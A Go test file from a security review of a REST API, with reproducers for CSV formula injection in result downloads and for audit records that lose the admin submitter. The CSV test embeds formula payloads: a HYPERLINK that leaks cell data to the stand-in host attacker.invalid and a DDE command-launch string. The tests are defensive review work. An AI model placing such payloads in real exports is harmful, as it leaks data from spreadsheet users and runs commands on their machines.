package restapi_test

// Reproducers of the security review of the REST API (branch rev-auth),
// against the conformance server (a real system, logins in the
// replicated state). Each FAILS on the code as reviewed.

import (
	"bufio"
	"net/url"
	"strconv"
	"strings"
	"testing"
)

// Finding 6 (medium): a CSV download writes cells as they are. A result
// cell starting with '=', '+', '-' or '@' is a formula when the file is
// opened in a spreadsheet (OWASP "CSV injection"): data from a shared
// table, or another user's result an administrator exports, runs as a
// formula on the downloader's machine (=HYPERLINK to leak the sheet,
// DDE on older Excel). The XLSX download is safe (excelize writes strings
// as strings).
func TestReviewCSVCellsAreNotFormulas(t *testing.T) {
	s := conformanceServer(t)
	alice := s.newClient(t, nil)
	alice.login("alice", alicePassword).ok(t)
	code := `select '=HYPERLINK("http://attacker.invalid/?"&B2,"open")' as f, '@SUM(1+1)*cmd|'' /C calc''!A0' as g, '+1+2' as h, 'plain' as p`
	a := alice.do("POST", "/entrance/submit", nil, `{"executionContent":{"code":`+strconv.Quote(code)+`},"labels":{"engineType":"sql-1","userCreator":"alice-IDE"}}`)
	a.ok(t)
	task := alice.waitEnded(idOf(t, a.Data, "taskID"))
	if str(t, task, "status") != "Succeed" {
		t.Fatalf("job %v", task)
	}
	d := alice.do("GET", "/filesystem/getDirFileTrees", url.Values{"path": {str(t, task, "resultLocation")}}, "")
	d.ok(t)
	set := str(t, list(t, obj(t, d.Data, "dirFileTrees"), "children")[0].(map[string]any), "path")
	csv := alice.do("GET", "/filesystem/resultsetToExcel", url.Values{"path": {set}, "outputFileType": {"csv"}}, "")
	if csv.http != 200 {
		t.Fatalf("download: HTTP %d %s", csv.http, csv.raw)
	}
	sc := bufio.NewScanner(strings.NewReader(string(csv.raw)))
	sc.Scan() // the header
	if !sc.Scan() {
		t.Fatalf("no row in %q", csv.raw)
	}
	row := sc.Text()
	t.Logf("row as downloaded: %s", row)
	for _, field := range splitCSV(row) {
		if field != "" && strings.ContainsRune("=+-@", rune(field[0])) {
			t.Errorf("cell %q is written as a spreadsheet formula", field)
		}
	}
}

// splitCSV splits one CSV line into its fields, unquoted.
func splitCSV(line string) []string {
	var out []string
	var b strings.Builder
	quoted := false
	for i := 0; i < len(line); i++ {
		c := line[i]
		switch {
		case quoted && c == '"' && i+1 < len(line) && line[i+1] == '"':
			b.WriteByte('"')
			i++
		case c == '"':
			quoted = !quoted
		case c == ',' && !quoted:
			out = append(out, b.String())
			b.Reset()
		default:
			b.WriteByte(c)
		}
	}
	return append(out, b.String())
}

// Finding 12 (low): an administrator's submission as another user
// (executeUser) is recorded as that user's own: submitUser and
// executeUser both name the user, and nothing in the record says who
// submitted it. Linkis keeps the logged-in user as submitUser and the
// proxy as executeUser (EntranceRestfulApi.submit, JobRequest); here a
// job an administrator ran as alice is indistinguishable from alice's.
func TestReviewExecuteUserKeepsTheSubmitter(t *testing.T) {
	s := conformanceServer(t)
	ops := s.newClient(t, nil)
	ops.login("ops", opsPassword).ok(t)
	a := ops.do("POST", "/entrance/submit", nil, `{"executeUser":"alice","executionContent":{"code":"echo hi"},"labels":{"engineType":"shell-1","userCreator":"alice-IDE"}}`)
	a.ok(t)
	task := ops.waitEnded(idOf(t, a.Data, "taskID"))
	if sub, ex := str(t, task, "submitUser"), str(t, task, "executeUser"); sub != "ops" || ex != "alice" {
		t.Errorf("ops submitted as alice; the record says submitUser %q, executeUser %q", sub, ex)
	}
}
